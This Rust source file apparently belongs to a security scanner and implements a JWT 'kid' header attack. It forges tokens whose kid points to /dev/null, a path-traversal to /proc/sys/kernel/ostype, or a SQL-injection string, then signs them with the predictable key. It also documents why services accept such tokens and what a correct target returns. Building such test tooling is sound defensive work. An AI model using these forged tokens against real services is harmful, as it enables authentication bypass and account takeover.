//! `token.kid`: a token that says where its key is found.

use super::{forged, forgeries};
use crate::attack::{Attack, Attempt, Ground, Scope};
use crate::model::call::Signature;

/// A token that says where its key is found.
pub(in crate::attack) struct Kid;

/// What the header names, and what is found there: likeliest first.
const NAMES: &[(&str, &str, &str)] = &[
    ("an empty file", "/dev/null", ""),
    (
        "an empty file, from any folder",
        "../../../../../../../../dev/null",
        "",
    ),
    (
        "a file that everybody has",
        "../../../../../../../../proc/sys/kernel/ostype",
        "Linux\n",
    ),
    (
        "a query's own answer",
        "none' UNION SELECT 'partywall' -- ",
        "partywall",
    ),
];

/// How many of them are tried with a user of the victim's named, too.
const LIKELY: usize = 1;

const DOC: &str = r#"## What it does
Lets the claims name the victim, and `kid` in the header name a key that anybody knows: a file that is empty, one that is the
same on every machine, and a piece of SQL that answers with a word. The token is signed (HMAC) with what is found there.

## Why teams fall for it
`kid` is read before anything is verified, and goes into a path or a query as it came: the key is looked up where the forger
says. (A known hazard; of the collection of real leaks RL-69 is next of kin: the check is there, against data of the
attacker's making.)

## A correct target
Looks `kid` up among the keys that it has, and finds none: 401.

## Example
    GET /services
    Host: victim.example.com
    Authorization: Bearer <header with "kid":"/dev/null">.<payload with the victim's tenant>.<HMAC by the empty secret>
"#;

impl Attack for Kid {
    fn id(&self) -> &'static str {
        "token.kid"
    }

    fn title(&self) -> &'static str {
        "a token that says where its key is found"
    }

    fn doc(&self) -> &'static str {
        DOC
    }

    fn scope(&self) -> Scope {
        Scope::Middleware
    }

    fn attempts(&self, ground: &Ground<'_>) -> Vec<Attempt> {
        let mut all = Vec::new();
        for (index, (who, claims)) in forgeries(ground).into_iter().enumerate() {
            let most = if index == 0 { NAMES.len() } else { LIKELY };
            for (variant, kid, secret) in NAMES.iter().take(ground.afford(most)) {
                let signature = Signature::Named {
                    kid: (*kid).to_owned(),
                    secret: (*secret).to_owned(),
                };
                let attempt = forged(ground, claims.clone(), signature);
                all.push(attempt.named(format!("{who}, {variant}")));
            }
        }
        all
    }
}
